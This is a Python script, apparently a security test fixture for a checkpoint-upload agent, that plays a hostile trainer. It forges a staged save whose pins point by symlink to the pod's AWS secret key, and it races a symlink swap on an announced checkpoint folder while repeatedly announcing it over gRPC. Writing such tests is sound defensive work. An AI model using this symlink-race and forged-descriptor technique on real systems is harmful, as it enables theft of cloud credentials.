"""A trainer that wants what only the agent can read: `python hostile_trainer.py SECRET_BYTES`.

It stages a save that was never announced, whose pins are a link to the agent's Secret, and it announces a folder that
it keeps swapping for such a link.
"""

import json
import os
import signal
import sys
import threading
import time
from pathlib import Path

import grpc

from keepstep_agent.adapters.volume.pinning import encode_descriptor
from keepstep_agent.core.agent.events import Announced
from keepstep_agent.core.file_lists import staged_files
from keepstep_agent.core.model import Fingerprint, Kind, SaveInfo, StagedFile
from keepstep_agent.ports import StagedDescriptor
from keepstep_agent.runtime.engine.event_codec import encode_event
from keepstep_api import names
from keepstep_api.v1 import agent_pb2, agent_pb2_grpc

_SECRET_FILE = "AWS_SECRET_ACCESS_KEY"
_ANNOUNCEMENTS = 100


def _forge(volume: Path, secret: Path, size_bytes: int) -> None:
    save = volume / names.STATE_DIRECTORY / names.STAGED_DIRECTORY / "forged-1"
    save.mkdir(parents=True)
    (save / "rank-00000").symlink_to(secret)
    info = SaveInfo(save=save.name, name="checkpoint-1", step=1, kind=Kind.PERIODIC, world_size=1)
    path = str(volume / "checkpoints" / info.name)
    announced = Announced(at=time.time(), info=info, rank=0, path=path, files=(), local_world_size=1)
    file = StagedFile(
        path=_SECRET_FILE,
        pin=f"{save.relative_to(volume)}/rank-00000/{_SECRET_FILE}",
        fingerprint=Fingerprint(size_bytes=size_bytes, mtime_ns=0, inode=0),
        private=True,
    )
    descriptor = StagedDescriptor(announcements=(encode_event(announced).decode(),), part_size_bytes=5 << 20)
    (save / "rank-00000.json").write_bytes(b"".join(encode_descriptor(descriptor, staged_files([file]))))


def _swap_for_ever(shown: Path, targets: tuple[Path, ...], aside: Path) -> None:
    while True:
        for target in targets:
            aside.unlink(missing_ok=True)
            aside.symlink_to(target)
            aside.rename(shown)


def _announce(path: Path) -> dict[str, int]:
    answers = {"taken": 0, "refused": 0}
    with grpc.insecure_channel(names.socket_address(Path(os.environ[names.ENV_SOCKET]))) as channel:
        stub = agent_pb2_grpc.AgentStub(channel)
        for step in range(_ANNOUNCEMENTS):
            request = agent_pb2.AnnounceCheckpointRequest(path=str(path), step=step, save=f"try-{step}")
            try:
                stub.AnnounceCheckpoint(request, timeout=300)
                answers["taken"] += 1
            except grpc.RpcError:
                answers["refused"] += 1
    return answers


def main() -> None:
    size_bytes = int(sys.argv[1])
    secret, state = Path(names.POD_CREDENTIALS_PATH), Path(names.POD_STATE_DIRECTORY)
    volume = Path(os.environ[names.ENV_VOLUME])
    print(json.dumps({"sees": [str(path) for path in (secret, state) if path.exists()]}), flush=True)
    _forge(volume, secret, size_bytes)
    real, shown = volume / "real", volume / "checkpoints" / "checkpoint-2"
    real.mkdir()
    (real / _SECRET_FILE).write_bytes(b"x" * size_bytes)
    shown.parent.mkdir(exist_ok=True)
    shown.symlink_to(real)
    threading.Thread(target=_swap_for_ever, args=(shown, (secret, real), volume / "aside"), daemon=True).start()
    signal.signal(signal.SIGTERM, lambda *_: sys.exit())
    print(json.dumps({"attacked": _announce(shown)}), flush=True)
    time.sleep(3600)


if __name__ == "__main__":
    main()
